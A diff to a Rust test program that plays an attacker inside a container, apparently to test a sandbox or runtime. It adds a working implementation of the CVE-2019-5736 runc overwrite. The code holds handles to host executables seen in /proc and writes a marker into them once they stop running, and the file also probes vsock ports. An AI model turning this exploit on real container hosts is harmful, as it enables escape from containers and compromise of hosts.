@@ -1,13 +1,18 @@
 //! The attacker's program: this test program under another name, inside a container.
 
+use std::collections::BTreeMap;
 use std::env;
-use std::fs::File;
+use std::fs::{self, File, OpenOptions};
 use std::io::Write;
 use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
 use std::process::ExitCode;
 
 /// Where it is in the container.
 pub const PATH: &str = "/bin/attacker";
+
+/// Holds every foreign executable that a process of the container shows, and writes to it as soon as it can.
+pub const OVERWRITE_RUNTIME: &str = "overwrite-runtime";
 
 /// Knocks at the machine's vsock ports.
 pub const KNOCK: &str = "knock";
@@ -19,10 +24,69 @@ pub fn run() -> Option<ExitCode> {
         return None;
     }
     match args.next()?.as_str() {
+        OVERWRITE_RUNTIME => overwrite_runtime(),
         KNOCK => knock(),
         _ => {}
     }
     Some(ExitCode::SUCCESS)
+}
+
+/// CVE-2019-5736. A program that is being executed cannot be written to, so the open file is kept and the write tried
+/// again when its processes may have ended.
+fn overwrite_runtime() {
+    let own: Vec<_> = ["/proc/self/exe", "/bin/busybox"]
+        .iter()
+        .filter_map(|path| fs::metadata(path).ok())
+        .map(|file| (file.dev(), file.ino()))
+        .collect();
+    // By identity and device of the mount: the same file may be seen through mounts that differ.
+    let mut held: BTreeMap<(u64, u64, bool), File> = BTreeMap::new();
+    println!("watching");
+    loop {
+        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
+            if entry.file_name().to_string_lossy().parse::<u32>().is_err() {
+                continue;
+            }
+            let Ok(file) = OpenOptions::new()
+                .read(true)
+                .custom_flags(libc::O_PATH)
+                .open(entry.path().join("exe"))
+            else {
+                continue;
+            };
+            let Ok(identity) = file.metadata().map(|file| (file.dev(), file.ino())) else {
+                continue;
+            };
+            let writable_mount = !is_read_only(&file);
+            if own.contains(&identity) {
+                continue;
+            }
+            let key = (identity.0, identity.1, writable_mount);
+            if held.insert(key, file).is_none() {
+                println!("caught a binary");
+            }
+        }
+        held.retain(|_, file| {
+            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+            match OpenOptions::new().write(true).open(path) {
+                Ok(mut file) => {
+                    let _ = file.write_all(b"#!overwritten\n");
+                    println!("OVERWRITTEN");
+                    false
+                }
+                Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => true,
+                Err(error) => {
+                    println!("refused: {error}");
+                    true
+                }
+            }
+        });
+    }
+}
+
+fn is_read_only(file: &File) -> bool {
+    nix::sys::statvfs::fstatvfs(file)
+        .is_ok_and(|one| one.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY))
 }
 
 /// Tries ports of the host, of this machine, and of the loopback device, by vsock.
